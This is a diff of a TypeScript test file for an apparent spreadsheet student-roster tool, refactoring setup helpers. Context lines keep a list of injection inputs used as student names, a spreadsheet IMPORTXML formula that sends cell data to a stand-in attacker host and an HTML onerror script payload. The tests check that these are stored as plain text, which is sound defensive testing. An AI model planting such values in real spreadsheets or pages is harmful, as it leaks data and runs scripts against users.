@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import type { Input } from '../../src/contract/contract';
 import type { Host } from '../host/host';
-import { ask, everything, install, keyOf, setUp, sheetOf, shown, smallRoster } from './installed';
+import { afterSetUp, ask, everything, keyOf, sheetOf, shown, smallRoster } from './installed';
 
 const ANA = '2000001';
 const ZONES = ['Pacific/Pago_Pago', 'America/Chicago', 'Pacific/Auckland'];
@@ -36,7 +36,7 @@ const enroll = (host: Host, studentId: string, name: string) =>
 
 describe.each(ZONES)('in %s', (zone) => {
   test('an exit writes its last day as a date, and enrolling the start as one', () => {
-    const host = setUp(install(smallRoster(zone), { scriptTimeZone: 'America/New_York' }));
+    const host = afterSetUp(smallRoster(zone), { scriptTimeZone: 'America/New_York' });
     leave(host);
     enroll(host, '2000077', 'Gray, Gil');
     const dates = (column: number, ...rows: number[]) =>
@@ -60,7 +60,7 @@ const WORDS = ['=IMPORTXML("http://evil.example/"&A1,"//a")', '<img src=x onerro
 test.each([...WORDS, '+1', '0012', '3/4'])(
   'a new student named %s, with that ID, is that text everywhere',
   (name) => {
-    const host = setUp(install(smallRoster()));
+    const host = afterSetUp(smallRoster());
     expect(enroll(host, name, name)).toMatchObject({ saved: true });
     expect(shown(host, 'Roster').pop()?.slice(0, 2)).toEqual([name, name]);
     expect(shown(host, 'Case assignments').filter((row) => row[1] === name && row[2] === name)).toHaveLength(
@@ -76,7 +76,7 @@ test.each([...WORDS, '+1', '0012', '3/4'])(
 );
 
 test('the link to the roster goes to the student’s row', () => {
-  const host = setUp(install(smallRoster()));
+  const host = afterSetUp(smallRoster());
   const { enrollments } = ask(host, 'assignments', { studentId: '2000004', household: false });
   expect(ask(host, 'showRow', { line: enrollments[0]?.line ?? '' })).toEqual({ shown: true, row: 5 });
 });
@@ -88,7 +88,7 @@ test('every call takes as many service calls with 200 students as with one', () 
     const last = roster?.rows[4] ?? [];
     for (let i = 0; i < more; i++)
       roster?.rows.push(last.map((cell, c) => (c === 0 ? String(3_000_000 + i) : cell)));
-    const host = setUp(install(sample));
+    const host = afterSetUp(sample);
     let calls = 0;
     host.onCall(({ phase }) => {
       if (phase === 'before') calls += 1;
